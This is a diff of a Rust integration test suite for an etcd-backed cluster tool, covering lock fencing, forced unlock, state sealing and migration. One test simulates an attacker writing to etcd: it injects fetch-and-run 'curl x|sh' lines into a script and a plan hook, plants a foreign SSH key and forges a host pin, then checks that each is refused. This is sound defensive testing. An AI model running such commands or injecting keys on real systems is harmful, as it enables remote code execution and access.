@@ -195,9 +195,13 @@ fn racing_writers_one_wins_and_a_dead_holders_lock_runs_out() {
     assert!(waited < Duration::from_secs(6), "the dead holder's lock ran out within its 3 s lease: {waited:?}");
     drop(got);
 
-    // The operator breaks a live holder's lock: told who held it; the holder sees it lost.
+    // The operator breaks a live holder's lock: refused unless forced; then told who held
+    // it, and the holder sees it lost.
     let held = a.lock(&zk, &Holder::here("reconcile zk"), Duration::from_secs(3), Wait::No).unwrap();
-    let broken = b.unlock(&zk).unwrap().unwrap();
+    let e = b.unlock(&zk).unwrap_err();
+    assert!(matches!(&e, StoreError::Held { holder, .. } if holder.operation == "reconcile zk"), "{e}");
+    assert!(held.is_held());
+    let broken = b.force_unlock(&zk).unwrap().unwrap();
     assert_eq!(broken.operation, "reconcile zk");
     assert!(b.lock_holder(&zk).unwrap().is_none());
     lct_tests::fixtures::until("the holder sees its lock broken", Duration::from_secs(5), || !held.is_held());
@@ -253,17 +257,21 @@ fn two_processes_change_cluster_records_at_once_and_unlock_names_the_holder() {
     let cluster = EtcdCluster::start(3, false);
     let env = lct_tests::Env::new();
     let url = cluster.url("lct");
+    let key_file = cluster.dir.path().join("state.key");
+    SealKey::generate(&key_file).unwrap();
     // Two controllers (processes), ten cluster records each, all at once, on one key
     // (clusters.jsonl): compare-and-swap of its revision, so no update is lost.
     let spawn = |side: &'static str| {
         let env = &env;
         let url = url.clone();
+        let key_file = key_file.clone();
         move || {
             for i in 0..10 {
                 let name = format!("{side}{i}");
                 let run = lct_tests::Run::from(
                     env.command("lct-inventory", &["clusters", "set", &name, "--domain", &format!("{name}.example")])
                         .env("LCT_STATE", &url)
+                        .env("LCT_STATE_KEY", &key_file)
                         .output()
                         .unwrap(),
                 );
@@ -276,20 +284,40 @@ fn two_processes_change_cluster_records_at_once_and_unlock_names_the_holder() {
         s.spawn(spawn("b"));
     });
     let list = lct_tests::Run::from(
-        env.command("lct-inventory", &["clusters", "list", "-o", "jsonl"]).env("LCT_STATE", &url).output().unwrap(),
+        env.command("lct-inventory", &["clusters", "list", "-o", "jsonl"])
+            .env("LCT_STATE", &url)
+            .env("LCT_STATE_KEY", &key_file)
+            .output()
+            .unwrap(),
     )
     .ok();
+    // Without the team's key nothing is read: every value is sealed or tagged with it.
+    let run = lct_tests::Run::from(
+        env.command("lct-inventory", &["clusters", "list", "-o", "jsonl"]).env("LCT_STATE", &url).output().unwrap(),
+    );
+    assert_eq!(run.status, 1, "{}", run.stdout);
+    assert!(run.stderr.contains("LCT_STATE_KEY"), "{}", run.stderr);
     let names: std::collections::BTreeSet<String> =
         list.json_lines().iter().map(|c| c["name"].as_str().unwrap().to_string()).collect();
     assert_eq!(names.len(), 20, "{names:?}");
     assert!(std::fs::read_dir(env.state.path()).unwrap().next().is_none(), "nothing in the local directory");
 
-    // `lct-plan unlock` names a dead controller's lock's holder and frees it.
+    // `lct-plan unlock` names the holder of a lock whose lease is alive and leaves it (its
+    // holder may still run); `--force` takes it away.
     let client = Client::new(&EtcdUrl::parse(&url).unwrap(), &TlsFiles::default(), Options::default()).unwrap();
     let lease = client.lease_grant(60).unwrap();
     let dead = Holder { who: "ops@ctl-2".into(), pid: 4242, operation: "scale zk".into(), since: 1_796_000_000 };
     client.put(b"lct/.locks/plans/zk", &serde_json::to_vec(&dead).unwrap(), lease).unwrap();
-    let run = lct_tests::Run::from(env.command("lct-plan", &["unlock", "zk"]).env("LCT_STATE", &url).output().unwrap());
+    let unlock = |args: &[&str]| {
+        lct_tests::Run::from(
+            env.command("lct-plan", args).env("LCT_STATE", &url).env("LCT_STATE_KEY", &key_file).output().unwrap(),
+        )
+    };
+    let run = unlock(&["unlock", "zk"]);
+    assert_eq!(run.status, 1, "{}", run.stderr);
+    assert!(run.stderr.contains("ops@ctl-2") && run.stderr.contains("unlock --force zk"), "{}", run.stderr);
+    assert!(client.get(b"lct/.locks/plans/zk").unwrap().is_some(), "a live holder's lock is left");
+    let run = unlock(&["unlock", "--force", "zk"]);
     assert_eq!(run.status, 0, "{}", run.stderr);
     let said = format!("{}{}", run.stdout, run.stderr);
     assert!(said.contains("ops@ctl-2") && said.contains("4242") && said.contains("scale zk"), "{said}");
@@ -311,6 +339,7 @@ fn migrate_to_etcd_and_back_gives_identical_records_and_leaves_the_source() {
         ("plans/zk/cluster.json", "{\"parameters\":{\"password\":\"Xk2LqP9mW4\"}}", 0o600),
         ("plans/zk/events.jsonl", "{\"event\":\"created\"}\n", 0o644),
         ("images/bakes/zb.json", "{\"root\":\"abc\"}", 0o600),
+        ("dns/linode-example.com.json", "{\"domain_id\":1,\"records\":[7]}", 0o644),
     ];
     for (path, text, mode) in files {
         let p = source.join(path);
@@ -321,6 +350,9 @@ fn migrate_to_etcd_and_back_gives_identical_records_and_leaves_the_source() {
     // A hook's log stays on the machine that ran it.
     std::fs::create_dir_all(source.join("plans/zk/logs")).unwrap();
     std::fs::write(source.join("plans/zk/logs/1.log"), "hook output").unwrap();
+    // A DNS server's own data in the same directory (its signing key) is not lct's state.
+    std::fs::create_dir_all(source.join("dns/dnssec")).unwrap();
+    std::fs::write(source.join("dns/dnssec/example.com.json"), "zone signing key").unwrap();
     let snapshot = |root: &std::path::Path| {
         let out = std::process::Command::new("find").arg(root).args(["-printf", "%P %m %s %T@\n"]).output().unwrap();
         let mut lines: Vec<String> = String::from_utf8(out.stdout).unwrap().lines().map(String::from).collect();
@@ -340,30 +372,211 @@ fn migrate_to_etcd_and_back_gives_identical_records_and_leaves_the_source() {
     };
     let url = cluster.url("lct");
     let run = migrate(source.to_str().unwrap(), &url).ok();
-    assert!(run.stderr.contains("migrated 6 key(s) (3 secret"), "{}", run.stderr);
+    assert!(run.stderr.contains("migrated 7 key(s) (3 secret"), "{}", run.stderr);
     assert_eq!(snapshot(&source), before, "the source is untouched");
     let dump = String::from_utf8_lossy(&cluster.dump("lct/")).into_owned();
     assert!(!dump.contains("PRIVATE KEY") && !dump.contains("Xk2LqP9mW4") && !dump.contains("abc"), "{dump}");
-    assert!(!dump.contains("hook output") && dump.contains("lct/plans/zk/events.jsonl"), "{dump}");
+    // The old one-value event log became one key per event.
+    assert!(!dump.contains("hook output") && !dump.contains("lct/plans/zk/events.jsonl"), "{dump}");
+    assert!(dump.contains("lct/plans/zk/events/0000000000000000-log000000"), "{dump}");
+    assert!(!dump.contains("zone signing key") && dump.contains("lct/dns/linode-example.com.json"), "{dump}");
 
-    // Into a store that holds state already: refused, nothing copied.
+    // Again into a store holding exactly this source's keys: nothing to do (a resumed run).
+    let again = migrate(source.to_str().unwrap(), &url).ok();
+    assert!(again.stderr.contains("7 already there"), "{}", again.stderr);
+    // Into a store that holds other state: refused, nothing copied.
+    std::fs::write(source.join("ssh/known_hosts"), "[203.0.113.4]:22 ssh-ed25519 BBBB\n").unwrap();
+    let before_refusal = cluster.dump("lct/");
     let again = migrate(source.to_str().unwrap(), &url);
     assert_eq!(again.status, 1);
     assert!(again.stderr.contains("migrate only into an empty store"), "{}", again.stderr);
+    assert_eq!(cluster.dump("lct/"), before_refusal);
 
     // And back: byte-identical files with the same modes.
     let back = dir.join("back");
     migrate(&url, back.to_str().unwrap()).ok();
     for (path, text, mode) in files {
+        let path = if *path == "plans/zk/events.jsonl" { "plans/zk/events/0000000000000000-log000000" } else { path };
         let p = back.join(path);
         assert_eq!(std::fs::read_to_string(&p).unwrap(), *text, "{path}");
         let got = std::os::unix::fs::MetadataExt::mode(&std::fs::metadata(&p).unwrap()) & 0o777;
         assert_eq!(got, *mode, "{path}");
     }
     assert!(!back.join("plans/zk/logs").exists());
+    assert!(!back.join("dns/dnssec").exists());
     // A source naming nothing of lct's: said, nothing copied.
     let empty = migrate(dir.join("nothing").to_str().unwrap(), &cluster.url("other"));
     assert_eq!(empty.status, 1);
     assert!(empty.stderr.contains("holds no lct state"), "{}", empty.stderr);
     assert_eq!(count(&cluster, "other/"), 0);
+}
+
+#[test]
+fn a_migration_refused_before_its_first_write_leaves_nothing_and_runs_again() {
+    let cluster = EtcdCluster::start(3, false);
+    let env = lct_tests::Env::new();
+    let dir = cluster.dir.path();
+    let source = dir.join("source");
+    for (path, text) in [
+        ("clusters.jsonl", "{\"kind\":\"cluster\",\"v\":1,\"name\":\"zk\"}\n"),
+        ("plans/zk/cluster.json", "{\"parameters\":{}}"),
+        ("plans/zk/plan.yaml", "name: zk\n"),
+    ] {
+        std::fs::create_dir_all(source.join(path).parent().unwrap()).unwrap();
+        std::fs::write(source.join(path), text).unwrap();
+    }
+    let key_file = dir.join("state.key");
+    SealKey::generate(&key_file).unwrap();
+    let url = cluster.url("lct");
+    let migrate = |key: Option<&std::path::Path>| {
+        let mut command =
+            env.command("lct-inventory", &["state", "migrate", "--from", source.to_str().unwrap(), "--to", &url]);
+        if let Some(key) = key {
+            command.env("LCT_STATE_KEY", key);
+        }
+        lct_tests::Run::from(command.output().unwrap())
+    };
+    // No key: said before anything is written (the public records sort first, and are not
+    // written ahead of the secrets that fail).
+    let run = migrate(None);
+    assert_eq!(run.status, 1);
+    assert!(run.stderr.contains("LCT_STATE_KEY"), "{}", run.stderr);
+    assert_eq!(count(&cluster, "lct/"), 0, "nothing in the target, not even its mark");
+    // A value over etcd's bound on a request: said, naming the key, nothing written.
+    std::fs::create_dir_all(source.join("plans/zk/files")).unwrap();
+    std::fs::write(source.join("plans/zk/files/big.bin"), vec![b'x'; 1600 * 1024]).unwrap();
+    let run = migrate(Some(&key_file));
+    assert_eq!(run.status, 1);
+    assert!(run.stderr.contains("plans/zk/files/big.bin") && run.stderr.contains("bound"), "{}", run.stderr);
+    assert_eq!(count(&cluster, "lct/"), 0);
+    // With the key and within bounds: it runs.
+    std::fs::remove_file(source.join("plans/zk/files/big.bin")).unwrap();
+    let run = migrate(Some(&key_file)).ok();
+    assert!(run.stderr.contains("migrated 3 key(s) (2 secret"), "{}", run.stderr);
+}
+
+#[test]
+fn values_written_without_the_teams_key_are_refused_naming_the_key() {
+    let cluster = EtcdCluster::start(3, false);
+    let dir = cluster.dir.path();
+    let store = store_at(&cluster.url("lct"), &TlsFiles::default(), Some(seal_key(dir, "k"))).unwrap();
+    let client =
+        Client::new(&EtcdUrl::parse(&cluster.url("lct")).unwrap(), &TlsFiles::default(), Options::default()).unwrap();
+    store.put(&key!("plans/zk/plan.yaml"), b"name: zk\n", Secrecy::Public).unwrap();
+    store.put(&key!("plans/zk/files/configure.sh"), b"#!/bin/sh\ntrue\n", Secrecy::Public).unwrap();
+    store.put(&key!("clusters.jsonl"), b"{\"name\":\"zk\"}\n", Secrecy::Public).unwrap();
+    let ssh = lct_core::ssh::SshFiles::on(Arc::new(
+        store_at(&cluster.url("lct"), &TlsFiles::default(), Some(SealKey::load(&dir.join("k")).unwrap())).unwrap(),
+    ))
+    .unwrap();
+    let ours = ssh.ensure_identity().unwrap();
+    // The key decides secrecy: a plan written as "public" is sealed all the same.
+    let dump = String::from_utf8_lossy(&cluster.dump("lct/")).into_owned();
+    assert!(!dump.contains("name: zk") && !dump.contains("#!/bin/sh"), "{dump}");
+    assert!(dump.contains("{\"name\":\"zk\"}") && dump.contains(&ours), "public values stay readable: {dump}");
+
+    // An etcd writer without the key: a plain script and plan, a foreign public key, a
+    // forged pin. Each is refused where it is read, naming its key; nothing runs from it.
+    let attacker = lct_core::ssh::generate_key("attacker").unwrap();
+    let put = |key: &str, value: &[u8]| client.put(format!("lct/{key}").as_bytes(), value, 0).unwrap();
+    put("plans/zk/files/configure.sh", b"#!/bin/sh\ncurl x|sh\n");
+    put("plans/zk/plan.yaml", b"name: zk\nhooks: {created: [{run: 'curl x|sh'}]}\n");
+    put("ssh/id_ed25519.pub", format!("{} attacker\n", attacker.public).as_bytes());
+    put("ssh/known_hosts", b"zk-1 ssh-ed25519 AAAAforged\n");
+    for (key, kind) in [
+        ("plans/zk/files/configure.sh", "expected a sealed value"),
+        ("plans/zk/plan.yaml", "expected a sealed value"),
+        ("ssh/id_ed25519.pub", "plain value"),
+        ("ssh/known_hosts", "plain value"),
+    ] {
+        let e = store.get(&key!("{key}")).unwrap_err().to_string();
+        assert!(e.contains(key) && e.contains(kind) && e.contains("LCT_STATE_KEY"), "{key}: {e}");
+    }
+    let e = ssh.authorized_keys().unwrap_err().to_string();
+    assert!(e.contains("ssh/id_ed25519.pub"), "{e}");
+    assert!(!ssh.authorized_keys().is_ok_and(|k| k.contains(&format!("{} attacker", attacker.public))));
+
+    // Values moved rather than written: a tagged (public) value put at a secret key, a
+    // sealed one at another key, a value of another store sharing the key file.
+    let raw = |key: &str| client.get(format!("lct/{key}").as_bytes()).unwrap().unwrap().value;
+    put("plans/zk/cluster.json", &raw("clusters.jsonl"));
+    let e = store.get(&key!("plans/zk/cluster.json")).unwrap_err().to_string();
+    assert!(e.contains("plans/zk/cluster.json") && e.contains("only tagged"), "{e}");
+    put("plans/pg/cluster.json", &raw("ssh/id_ed25519"));
+    let e = store.get(&key!("plans/pg/cluster.json")).unwrap_err().to_string();
+    assert!(e.contains("plans/pg/cluster.json") && e.contains("does not open"), "{e}");
+    let other =
+        store_at(&cluster.url("other"), &TlsFiles::default(), Some(SealKey::load(&dir.join("k")).unwrap())).unwrap();
+    other.put(&key!("ssh/known_hosts"), b"zk-1 ssh-ed25519 AAAAother\n", Secrecy::Public).unwrap();
+    put("clusters.jsonl", &client.get(b"other/ssh/known_hosts").unwrap().unwrap().value);
+    let e = store.get(&key!("clusters.jsonl")).unwrap_err().to_string();
+    assert!(e.contains("clusters.jsonl") && e.contains("does not hold"), "{e}");
+}
+
+#[test]
+fn a_lost_lock_fences_its_holders_writes_and_a_destroyed_cluster_stays_gone() {
+    use lct_core::store::Txn;
+    let cluster = EtcdCluster::start(3, false);
+    let dir = cluster.dir.path();
+    let url = cluster.url("lct");
+    let a = store_at(&url, &TlsFiles::default(), Some(seal_key(dir, "k"))).unwrap();
+    let b = store_at(&url, &TlsFiles::default(), Some(SealKey::load(&dir.join("k")).unwrap())).unwrap();
+    let client = Client::new(&EtcdUrl::parse(&url).unwrap(), &TlsFiles::default(), Options::default()).unwrap();
+    let (zk, state) = (key!("plans/zk"), key!("plans/zk/cluster.json"));
+    let save = |store: &EtcdStore, guard: &dyn lct_core::store::LockGuard, value: &[u8]| {
+        store.commit(&Txn::new().fenced(guard).put(&state, value.to_vec(), Secrecy::Secret))
+    };
+
+    // A holds zk's lock and saves under it.
+    let held_a = a.lock(&zk, &Holder::here("scale zk"), Duration::from_secs(30), Wait::No).unwrap();
+    save(&a, &*held_a, b"{\"counts\":5}").unwrap();
+    // A pauses; its lease is revoked from outside (what a lease running out does).
+    let lease = client.get(b"lct/.locks/plans/zk").unwrap().unwrap().lease;
+    client.lease_revoke(lease).unwrap();
+    // B takes the lock, saves, destroys the cluster (a fenced delete of its prefix).
+    let held_b = b.lock(&zk, &Holder::here("destroy zk"), Duration::from_secs(30), Wait::No).unwrap();
+    save(&b, &*held_b, b"{\"counts\":3}").unwrap();
+    // A resumes: its save is refused (another holds the lock now), B's state stays.
+    let e = save(&a, &*held_a, b"{\"counts\":5}").unwrap_err();
+    assert!(matches!(&e, StoreError::Fenced { name } if *name == zk), "{e}");
+    assert!(e.to_string().contains("plans/zk") && e.to_string().contains("nothing was written"), "{e}");
+    assert_eq!(b.get(&state).unwrap().unwrap().value, b"{\"counts\":3}");
+    b.commit(&Txn::new().fenced(&*held_b).delete_prefix(&zk)).unwrap();
+    drop(held_b);
+    // After the destroy, with the lock free: A's late save recreates nothing.
+    let e = save(&a, &*held_a, b"{\"counts\":5}").unwrap_err();
+    assert!(matches!(e, StoreError::Fenced { .. }), "{e}");
+    assert!(a.keys(&zk).unwrap().is_empty(), "a zombie cluster");
+    lct_tests::fixtures::until("A sees its lock lost", Duration::from_secs(20), || !held_a.is_held());
+    drop(held_a);
+
+    // An operator's forced unlock fences the live holder the same way.
+    let held = a.lock(&zk, &Holder::here("reconcile zk"), Duration::from_secs(30), Wait::No).unwrap();
+    save(&a, &*held, b"{}").unwrap();
+    assert!(matches!(b.unlock(&zk), Err(StoreError::Held { .. })));
+    assert_eq!(b.force_unlock(&zk).unwrap().unwrap().operation, "reconcile zk");
+    assert!(matches!(save(&a, &*held, b"{\"late\":1}"), Err(StoreError::Fenced { .. })));
+    assert_eq!(b.get(&state).unwrap().unwrap().value, b"{}");
+}
+
+#[test]
+fn a_holder_cut_off_from_etcd_knows_its_lock_lost_within_the_lease() {
+    let cluster = EtcdCluster::start(3, false);
+    let dir = cluster.dir.path().to_path_buf();
+    let store = store_at(&cluster.url("lct"), &TlsFiles::default(), Some(seal_key(&dir, "k"))).unwrap();
+    let held = store.lock(&key!("plans/zk"), &Holder::here("scale zk"), Duration::from_secs(3), Wait::No).unwrap();
+    assert!(held.is_held());
+    // Every member stopped (a partition): renewals hang, each tried for up to 20 s. The holder
+    // must not wait for them to learn that its lease (3 s) may have run out meanwhile.
+    for i in 0..3 {
+        cluster.pause(i, true);
+    }
+    let started = Instant::now();
+    lct_tests::fixtures::until("the holder sees its lock lost", Duration::from_secs(30), || !held.is_held());
+    let known = started.elapsed();
+    for i in 0..3 {
+        cluster.pause(i, false);
+    }
+    assert!(known < Duration::from_secs(4), "known late: {known:?}");
+    drop(held);
 }
